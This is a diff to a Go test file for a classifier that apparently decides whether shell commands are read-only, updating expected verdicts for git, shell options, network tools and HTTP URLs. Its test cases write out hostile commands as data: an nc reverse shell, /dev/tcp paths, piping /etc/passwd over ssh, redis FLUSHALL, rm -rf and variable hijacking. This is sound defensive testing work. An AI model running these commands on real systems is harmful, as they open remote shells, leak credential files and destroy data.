@@ -23,10 +23,13 @@ func hasReasonContaining(reasons []string, s string) bool {
 	return false
 }
 
+// runClass classifies each case under labOptions, the deployment the
+// corpora assume (corpus_test.go); TestStrictestOptions checks what the
+// zero Options refuse.
 func runClass(t *testing.T, d Dialect, cases []classCase) {
 	t.Helper()
 	for _, tc := range cases {
-		v := ClassifyAs(tc.cmd, d)
+		v := labOptions.Classify(tc.cmd, d)
 		if v.ReadOnly() != tc.read {
 			t.Errorf("%s %q: %s %v, want read=%v", d, tc.cmd, v.Intent, v.Reasons, tc.read)
 			continue
@@ -102,7 +105,9 @@ func TestClassVerbDetection(t *testing.T) {
 		{"git log --oneli", false, "git log: unknown option --oneli"},
 		{"git log -1 --format=%H", true, ""},
 		{"git status --porcelain=v1", true, ""},
-		{"git remote show origin", true, ""},
+		{"git remote show origin", false, "git remote show origin: a remote's name takes its URL from the repository's configuration"},
+		{"git remote show https://git.internal/app.git", true, ""},
+		{"git remote show -n origin", true, ""},
 		{"git remote add x y", false, "git remote add"},
 		{"git stash", false, "git stash: no subcommand"},
 		{"git submodule foreach rm -rf .", false, "git submodule foreach: runs a program"},
@@ -174,7 +179,8 @@ func TestClassShellFeatures(t *testing.T) {
 		{"shopt -s extdebug", false, "shopt extdebug"},
 		{"shopt -so keyword", false, "shopt keyword"},
 		{"shopt -s expand_aliases", false, "shopt expand_aliases"},
-		{"shopt -s nullglob globstar", true, ""},
+		{"shopt -s nullglob globstar", false, "shopt nullglob: shell option not known to be harmless"},
+		{"shopt -s inherit_errexit", true, ""},
 		{"shopt -q extdebug", true, ""},
 		{"bash -k -c 'ls'", false, "bash -k"},
 		{"bash -o keyword -c ls", false, "bash -o"},
@@ -204,10 +210,10 @@ func TestClassShellFeatures(t *testing.T) {
 		{"echo ${PATH:=/tmp}", false, "${PATH:=...}"},
 		{"echo ${GIT_PAGER=x}", false, "${GIT_PAGER=...}"},
 		{"echo ${x:-default}", true, ""},
-		{"declare PROMPT_COMMAND='rm x'", false, "PROMPT_COMMAND="},
-		{"export LD_LIBRARY_PATH=/tmp", false, "LD_LIBRARY_PATH="},
-		{"local IFS=x", false, "IFS="},
-		{"typeset PAGER=less", false, "PAGER="},
+		{"declare PROMPT_COMMAND='rm x'", false, "declare PROMPT_COMMAND: sets a variable"},
+		{"export LD_LIBRARY_PATH=/tmp", false, "export LD_LIBRARY_PATH: sets a variable"},
+		{"local IFS=x", false, "local IFS: sets a variable"},
+		{"typeset PAGER=less", false, "typeset PAGER: sets a variable"},
 		{"declare -n ref=PATH", false, "declare -n"},
 		{"FOO=1 ls", false, "FOO="},
 		{"find . -exec sh -c 'cat {}' \\;", false, "sh -c: dynamic command string"},
@@ -273,12 +279,12 @@ func TestClassNetwork(t *testing.T) {
 		{"cat < /dev/t\\cp/10.0.0.1/80", false, "< /dev/tcp/10.0.0.1/80"},
 		{"echo /dev/tcp/x/1", false, "/dev/tcp/x/1: network device path"},
 		{"sh -c $'cat </dev/\\x74cp/h/80'", false, "network device"},
-		{"openssl s_client -connect redis:6379 < /tmp/cmds", false, "openssl s_client: sends its input"},
-		{"printf 'FLUSHALL\\r\\n' | openssl s_client -connect redis:6379", false, "openssl s_client: sends its input"},
+		{"openssl s_client -connect redis:6379 < /tmp/cmds", false, "openssl s_client: local data on its standard input"},
+		{"printf 'FLUSHALL\\r\\n' | openssl s_client -connect redis:6379", false, "openssl s_client: local data on its standard input"},
 		{"echo | openssl s_client -connect x:443", true, ""},
 		{"openssl s_client -connect x:443 -early_data /etc/passwd </dev/null", false, "openssl s_client -early_data"},
 		{"openssl s_client -connect x:443 -engine /tmp/e.so </dev/null", false, "openssl s_client -engine"},
-		{"nc redis 6379 < /tmp/cmds", false, "nc: sends its input"},
+		{"nc redis 6379 < /tmp/cmds", false, "nc: local data on its standard input"},
 		{"nc -e /bin/sh x 4444", false, "nc -e"},
 		{"nc -l 8080", false, "nc -l"},
 		{"ncat --sh-exec 'id' x 1", false, "ncat --sh-exec"},
@@ -304,13 +310,15 @@ func TestClassNetwork(t *testing.T) {
 		{"curl -b 'session=abc' -u bob:pw http://x/status", true, ""},
 		{"whois -h 127.0.0.1 -p 6379 FLUSHALL", false, "whois -p"},
 		{"whois -h 10.0.0.1:6379 x", false, "whois -h 10.0.0.1:6379"},
-		{"whois -h whois.arin.net 8.8.8.8", true, ""},
+		{"whois -h whois.arin.net 8.8.8.8", false, "whois: destination whois.arin.net:43 is not known to vigil"},
+		{"whois -h git.internal x", true, ""},
 		{"dig -f /tmp/names", false, "dig -f: sends queries read from a file"},
 		{"dig -p 6379 @127.0.0.1 x", false, "dig -p 6379"},
 		{"host -p 11211 x 127.0.0.1", false, "host -p 11211"},
 		{"nslookup -port=6379 x 127.0.0.1", false, "nslookup -port=6379"},
-		{"nslookup < /tmp/cmds", false, "nslookup: reads commands from stdin"},
-		{"dig @1.1.1.1 example.com AAAA +short", true, ""},
+		{"nslookup < /tmp/cmds", false, "nslookup: local data on its standard input"},
+		{"dig @1.1.1.1 example.com AAAA +short", false, "dig: destination 1.1.1.1:53 is not known to vigil"},
+		{"dig @10.0.0.1 example.com AAAA +short", true, ""},
 		{"ssh web1 'cat > /tmp/x' < /etc/passwd", false, "ssh: sends local input"},
 		{"cat /etc/passwd | ssh web1 wc -l", false, "ssh: sends local input"},
 		{"ssh -A web1 uptime", false, "ssh -A: forwards the local agent"},
@@ -339,47 +347,87 @@ func TestClassNetwork(t *testing.T) {
 	for cmd, want := range map[string]bool{
 		"curl -s http://x/metrics": true, "dig example.com": true, "ping -c 1 x": true,
 		"kubectl get pods": true, "ssh web1 uptime": true, "nc -z db 5432": true,
-		"redis-cli -h c PING": true, "psql -h db -c 'SELECT 1'": true, "getent hosts x": true,
+		"redis-cli -h cache PING": true, "psql -h db -c 'SELECT 1'": true, "getent hosts x": true,
 		"ls -la": false, "cat /etc/hosts": false, "docker ps": false, "systemctl status x": false,
 		"curl file:///etc/hosts": false, "ip addr": false,
 	} {
-		v := Classify(cmd)
-		if !v.ReadOnly() || v.Network != want {
+		v := labOptions.Classify(cmd, DialectBash)
+		if !v.ReadOnly() || v.Network != want || want != (len(v.Destinations) > 0) {
 			t.Errorf("%q: read=%v network=%v, want read and network=%v (%v)", cmd, v.ReadOnly(), v.Network, want, v.Reasons)
 		}
 	}
 }
 
-// Class 4: GET is not harmless by convention.
+// Class 4: GET is not harmless by convention: a URL is a read only when
+// it is listed or has the exact shape of a well-known read endpoint.
 func TestClassURLActions(t *testing.T) {
+	const notKnown = "URL is not a known read endpoint"
 	runClass(t, DialectBash, []classCase{
-		{"curl 'http://tomcat:8080/manager/text/undeploy?path=/app'", false, "curl http://tomcat:8080/manager/text/undeploy?path=/app: URL names an action (undeploy)"},
-		{"curl 'http://solr:8983/solr/admin/cores?action=UNLOAD&core=c1'", false, "URL names an action (unload)"},
-		{"curl 'http://jenkins/job/x/build?token=t'", false, "URL names an action (build)"},
-		{"curl http://x/api/v1/restart", false, "URL names an action (restart)"},
-		{"curl http://x/%72%65start", false, "URL names an action (restart)"},
-		{"curl http://x/%2572%2565start", false, "URL names an action (restart)"},
-		{"curl 'http://x/api?op=forceRestart'", false, "URL names an action (restart)"},
-		{"curl 'http://x/a;action=delete'", false, "URL names an action (delete)"},
-		{"curl 'http://x/{status,shutdown}'", false, "URL names an action (shutdown)"},
-		{"curl http://x/admin/flush_all", false, "URL names an action (flush)"},
-		{"curl -X GET http://x/v1/agent/leave/kill", false, "URL names an action (kill)"},
-		{"wget -qO- http://x/cache/purge", false, "URL names an action (purge)"},
-		{"http GET http://x/jobs/trigger", false, "URL names an action (trigger)"},
-		{"http --ignore-stdin x/job/run", false, "URL names an action (run)"},
-		{"http GET x action==reset", false, "http action==reset: query names an action (reset)"},
-		{"curl http://localhost:8001/api/v1/namespaces/x/services/y:80/proxy/", false, "reaches a service through the Kubernetes API proxy"},
+		{"curl 'http://tomcat:8080/manager/text/undeploy?path=/app'", false, "curl: destination tomcat:8080 is not known to vigil (declare it in policy.http_read_urls)"},
+		{"curl 'http://x:8080/manager/text/undeploy?path=/app'", false, "curl http://x:8080/manager/text/undeploy?path=/app: " + notKnown},
+		{"curl 'http://x:8983/solr/admin/cores?action=UNLOAD&core=c1'", false, notKnown},
+		{"curl 'http://x/job/x/build?token=t'", false, notKnown},
+		{"curl http://x/api/v1/restart", false, notKnown},
+		{"curl http://x/%72%65start", false, notKnown},
+		{"curl http://x/%2572%2565start", false, notKnown},
+		{"curl 'http://x/api?op=forceRestart'", false, notKnown},
+		{"curl 'http://x/a;action=delete'", false, notKnown},
+		{"curl 'http://x/{status,shutdown}'", false, "curl expands {…} and […] in a URL"},
+		{"curl -g 'http://x/{status,shutdown}'", false, notKnown},
+		{"curl http://x/admin/flush_all", false, notKnown},
+		{"curl -X GET http://x/v1/agent/leave/kill", false, notKnown},
+		{"wget -qO- http://x/cache/purge", false, notKnown},
+		{"http GET http://x/jobs/trigger", false, notKnown},
+		{"http --ignore-stdin x/job/run", false, notKnown},
+		{"http GET x action==reset", false, notKnown},
+		{"http GET x/metrics action==reset", false, notKnown},
+		{"curl 'http://x/metrics?action=reset'", false, notKnown},
+		{"curl http://x/metrics/../admin", false, notKnown},
+		{"curl http://x/%6detrics", false, notKnown},
+		{"curl http://localhost:8001/api/v1/namespaces/x/services/y:80/proxy/", false, notKnown},
 		{"kubectl get --raw /api/v1/namespaces/x/services/y/proxy/admin", false, "kubectl get --raw"},
-		{"kubectl get --raw /metrics", false, "raw API path not listed"},
-		{"curl -s http://localhost:9090/api/v1/query?query=up", true, ""},
-		{"curl -s 'http://localhost:9090/api/v1/query_range?query=up&start=1'", false, "URL names an action (start)"},
+		{"kubectl get --raw /api/v1/namespaces/x/secrets/y", false, "kubectl get --raw"},
+		{"kubectl get --raw /metrics", true, ""},
+		{"kubectl get --raw '/readyz?verbose'", true, ""},
+		{"kubectl get --raw /livez/etcd", true, ""},
+		{"curl -s 'http://localhost:9090/api/v1/query?query=up'", true, ""},
+		{"curl -s http://localhost:9090/api/v1/query?query=up", false, "value is built by glob expansion"},
+		{"curl -s 'http://localhost:9090/api/v1/query_range?query=up&start=1&end=2&step=15'", true, ""},
+		{"curl -s 'http://localhost:9090/api/v1/query?query=up&evil=1'", false, notKnown},
+		{"curl -s 'http://localhost:9093/api/v2/alerts?silenced=false'", true, ""},
+		{"curl -s 'http://localhost:9093/api/v2/silences'", true, ""},
+		{"curl -s 'http://localhost:9200/_cluster/health?pretty'", true, ""},
+		{"curl -s 'http://localhost:9200/_cat/indices?v&s=index'", true, ""},
+		{"curl -s 'http://localhost:9200/_cluster/settings'", false, notKnown},
 		{"curl -sf http://localhost:8080/actuator/health", true, ""},
-		{"curl -s http://x/jobs?state=running", true, ""},
+		{"curl -s 'http://x/jobs?state=running'", false, notKnown},
 		{"http GET :8080/health", true, ""},
 		{"http --ignore-stdin x/status", true, ""},
 		{"http x/status", false, "sends its stdin as the body"},
 		{"wget --spider http://x/status", true, ""},
 	})
+}
+
+// A listed prefix (policy.http_read_urls) makes its URLs reads, and its
+// host a known destination.
+func TestClassListedURLs(t *testing.T) {
+	p, err := ParseURLPrefix("http://jenkins.internal:8080/job/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	o := Options{HTTPReadURLs: []URLPrefix{p}}
+	for cmd, want := range map[string]bool{
+		"curl -s http://jenkins.internal:8080/job/x/api/json":     true,
+		"curl -s 'http://jenkins.internal:8080/job/x?depth=1'":    true,
+		"curl -s http://jenkins.internal:8080/manage":             false,
+		"curl -s http://jenkins.internal:8081/job/x/api/json":     false,
+		"curl -s https://jenkins.internal:8080/job/x/api/json":    false,
+		"curl -s http://jenkins.internal:8080/job/../script/text": false,
+	} {
+		if v := o.Classify(cmd, DialectBash); v.ReadOnly() != want {
+			t.Errorf("%q: read=%v %v, want %v", cmd, v.ReadOnly(), v.Reasons, want)
+		}
+	}
 }
 
 // Class 6: per-tool options that write, load code or change state.
@@ -490,7 +538,8 @@ func TestClassToolWriters(t *testing.T) {
 		{"redis-cli --rdb /tmp/dump.rdb", false, "redis-cli --rdb"},
 		{"redis-cli -x GET", false, "redis-cli -x"},
 		{"redis-cli --eval /tmp/s.lua", false, "redis-cli --eval"},
-		{"redis-cli --pipe < cmds", false, "redis-cli --pipe"},
+		{"redis-cli --pipe < cmds", false, "redis-cli: local data on its standard input"},
+		{"redis-cli --pipe", false, "redis-cli --pipe"},
 	})
 }
 
